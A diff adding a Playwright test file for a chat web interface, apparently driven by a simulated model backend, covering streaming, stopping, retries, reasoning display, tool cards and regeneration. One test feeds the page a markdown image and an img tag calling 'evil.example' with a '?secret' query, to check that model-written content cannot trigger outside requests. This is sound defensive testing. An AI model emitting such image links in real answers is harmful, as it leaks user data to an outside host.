@@ -1,0 +1,113 @@
+import { expect, test } from './page.ts'
+
+test('says where answers come from, and offers a start', async ({ chat }) => {
+  await expect(chat.page.getByTestId('place')).toHaveText('Local Bedrock (simulated)')
+  await chat.page.getByRole('button', { name: /markdown/ }).click()
+  await chat.settled()
+  await expect(chat.answer.getByRole('table')).toBeVisible()
+  await expect(chat.answer.getByRole('heading').first()).toBeVisible()
+  await expect(chat.answer.locator('pre').first()).toBeVisible()
+  await expect(chat.answer.getByText(/tokens in/)).toBeVisible()
+})
+
+test('text grows while the answer comes', async ({ chat }) => {
+  await chat.send('a long story')
+  await expect(chat.stop).toBeVisible()
+  const lengths = new Set<number>()
+  await expect
+    .poll(async () => lengths.add((await chat.answer.innerText().catch(() => '')).length).size, { intervals: [100] })
+    .toBeGreaterThan(5)
+  await expect(chat.stop).toBeVisible()
+  const seen = [...lengths]
+  expect(seen).toEqual(seen.toSorted((a, b) => a - b))
+})
+
+for (const [how, act] of [
+  ['the button', 'click'],
+  ['Escape', 'Escape'],
+] as const)
+  test(`${how} stops an answer, keeps what came, and the conversation goes on`, async ({ chat }) => {
+    await chat.send('a long story')
+    await expect.poll(async () => (await chat.answer.innerText().catch(() => '')).length).toBeGreaterThan(60)
+    if (act === 'click') await chat.stop.click()
+    else await chat.field.press(act)
+    await expect(chat.stop).toBeHidden()
+    await expect(chat.answer.getByText('Stopped')).toBeVisible()
+    const kept = await chat.text()
+    await chat.page.waitForTimeout(600)
+    expect(await chat.text()).toBe(kept)
+    await chat.send('echo and on it goes')
+    await chat.settled()
+    await expect(chat.answer).toContainText('and on it goes')
+  })
+
+for (const [kind, words] of [
+  ['before the first word', 'busy'],
+  ['in mid-answer', 'midway'],
+  ['by a cut connection', 'cut'],
+] as const)
+  test(`a failure ${kind} is told, and trying again helps`, async ({ chat, browserName }, info) => {
+    await chat.send(`fail once ${words} (${browserName} ${info.testId} ${info.retry})`)
+    await expect(chat.page.getByTestId('problem')).toContainText('Please try again')
+    await expect(chat.status).toContainText('try again')
+    await chat.page.getByRole('button', { name: 'Try again' }).click()
+    await expect(chat.answer).toContainText('it went through')
+    await chat.settled()
+    await expect(chat.page.getByTestId('problem')).toBeHidden()
+    await expect(chat.page.getByTestId('answer')).toHaveCount(1)
+  })
+
+test('reasoning can be opened after the answer', async ({ chat }) => {
+  await chat.send('think: what is up')
+  await chat.settled()
+  const thoughts = chat.answer.getByRole('button', { name: 'Thought it through' })
+  await expect(thoughts).toHaveAttribute('aria-expanded', 'false')
+  await thoughts.click()
+  await expect(chat.answer).toContainText('First I look at what is wanted')
+})
+
+test('a tool runs on the server, its card tells how, and the next question is answered', async ({ chat }) => {
+  await chat.send('What is the weather in Lisbon?')
+  await chat.settled()
+  const card = chat.answer.getByTestId('tool')
+  await expect(card).toContainText('weather')
+  await expect(card).toContainText('Done')
+  await card.getByRole('button').click()
+  await expect(card).toContainText('example data')
+  await expect(chat.answer).toContainText('Here is what came back')
+  await chat.send('echo thank you')
+  await chat.settled()
+  await expect(chat.answer).toContainText('thank you')
+})
+
+test('an answer can be asked for again', async ({ chat }) => {
+  await chat.send('echo once more')
+  await chat.settled()
+  await chat.page.getByRole('button', { name: 'Answer again' }).click()
+  await chat.settled()
+  await expect(chat.page.getByTestId('answer')).toHaveCount(1)
+  await expect(chat.answer).toContainText('once more')
+})
+
+test('nothing a model writes makes the page load from elsewhere', async ({ chat }) => {
+  const elsewhere: string[] = []
+  chat.page.on('request', (request) => {
+    if (!request.url().startsWith(new URL(chat.page.url()).origin) && !request.url().startsWith('data:'))
+      elsewhere.push(request.url())
+  })
+  await chat.send('echo ![a](https://evil.example/a.png?secret) <img src="https://evil.example/b.png"> done')
+  await chat.settled()
+  await expect(chat.answer).toContainText('done')
+  await chat.page.waitForTimeout(300)
+  expect(elsewhere).toEqual([])
+  await expect(chat.answer.locator('img')).toHaveCount(0)
+})
+
+test('a new conversation starts empty', async ({ chat }) => {
+  await chat.send('echo hello')
+  await chat.settled()
+  await chat.page.getByRole('button', { name: 'New conversation' }).click()
+  await expect(chat.page.getByTestId('answer')).toHaveCount(0)
+  await expect(chat.page.getByRole('heading', { level: 2 })).toBeVisible()
+  await expect(chat.field).toBeFocused()
+})
